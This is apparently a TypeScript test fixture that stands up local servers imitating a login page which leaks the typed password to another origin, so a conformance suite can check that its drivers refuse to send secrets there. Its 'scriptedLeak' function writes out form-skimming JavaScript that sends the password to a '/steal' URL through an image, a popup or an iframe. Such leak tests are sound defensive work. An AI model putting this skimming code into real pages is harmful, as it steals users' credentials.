/**
 * A target whose login page posts the password to another origin (issue 34), for the form and
 * browser drivers' tests: `target` serves the authorize page, whose login form's `action` is on
 * `elsewhere` — another port of 127.0.0.1, so another origin — which records every request it
 * gets. The suite must fail the case (D-URL-ORIGINS) and send `elsewhere` nothing of the profile.
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Profile } from "../../conformance/core/profile.ts";

export const SECRETS = { password: "pa55-w0rd-Of-octocat", token: "0123456789abcdef0123456789abcdef01234567", clientSecret: "client-secret-0f-the-app" };

const CALLBACK = "http://127.0.0.1:9/callback";

export interface Recorded {
  method: string;
  url: string;
  body: string;
}

export interface Site {
  url: string;
  requests: Recorded[];
  close(): Promise<void>;
}

async function listen(handler: (req: IncomingMessage, body: string) => { status: number; type?: string; body: string; headers?: Record<string, string> }): Promise<Site> {
  const requests: Recorded[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    let size = 0;
    req.on("data", (c: Buffer) => {
      size += c.length;
      if (size <= 1 << 20) chunks.push(c); // bounded: a test server keeps at most 1 MiB a request
    });
    req.on("end", () => {
      const body = Buffer.concat(chunks).toString("utf8");
      requests.push({ method: req.method ?? "", url: req.url ?? "", body });
      const answer = handler(req, body);
      res.writeHead(answer.status, { "content-type": answer.type ?? "text/html; charset=utf-8", ...answer.headers }).end(answer.body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The page that takes the password elsewhere: `elsewhere` gets it if the form is posted. */
export function loginPage(action: string): string {
  return `<!DOCTYPE html><html><head><title>Sign in</title></head><body>
<form method="post" action="${action}">
  <input type="hidden" name="authenticity_token" value="t0k3n">
  <label>Login <input name="login"></label>
  <label>Password <input type="password" name="password"></label>
  <button type="submit">Sign in</button>
</form></body></html>`;
}

/**
 * A login form that posts home, but whose script sends the typed password elsewhere as the form
 * is submitted — `how`: an image, a popup window or an iframe (each a request of its own).
 */
export function scriptedLeak(elsewhere: string, how: "image" | "popup" | "iframe"): string {
  const send = {
    image: "new Image().src = url",
    popup: "window.open(url)",
    iframe: "var f = document.createElement('iframe'); f.src = url; document.body.appendChild(f)",
  }[how];
  return loginPage("/session").replace(
    "</body>",
    `<script>document.querySelector("form").addEventListener("submit", function (e) {
  e.preventDefault();
  var url = ${JSON.stringify(`${elsewhere}/steal?p=`)} + encodeURIComponent(document.querySelector("[name=password]").value);
  ${send};
});</script></body>`,
  );
}

export type LeakKind = "form" | "image" | "popup" | "iframe";

export async function startForeignLogin(kind: LeakKind = "form"): Promise<{ target: Site; elsewhere: Site; close(): Promise<void> }> {
  // Signed in there, it sends the browser on to the callback (as an identity provider would, in the end).
  const elsewhere = await listen(() => ({ status: 302, body: "", headers: { location: `${CALLBACK}?code=from-elsewhere&state=s-1` } }));
  const target = await listen((req) => {
    if (req.url?.startsWith("/login/oauth/authorize")) return { status: 200, body: kind === "form" ? loginPage(`${elsewhere.url}/session`) : scriptedLeak(elsewhere.url, kind) };
    return { status: 404, type: "application/json", body: JSON.stringify({ message: "Not Found", documentation_url: "https://example.test" }) };
  });
  return {
    target,
    elsewhere,
    close: async () => {
      await target.close();
      await elsewhere.close();
    },
  };
}

export function foreignLoginProfile(authorize: Profile["authorize"]): Profile {
  return {
    users: [{ login: "octocat", password: SECRETS.password, token: SECRETS.token }],
    app: { clientId: "Iv1.conformance", clientSecret: SECRETS.clientSecret, callbackUrl: CALLBACK },
    authorize,
  };
}

/** Every request `site` got that carries one of the profile's secrets, as is or URL-encoded. */
export function leaks(site: Site): Recorded[] {
  const spelled = Object.values(SECRETS).flatMap((s) => [s, encodeURIComponent(s)]);
  return site.requests.filter((r) => spelled.some((s) => r.url.includes(s) || r.body.includes(s)));
}
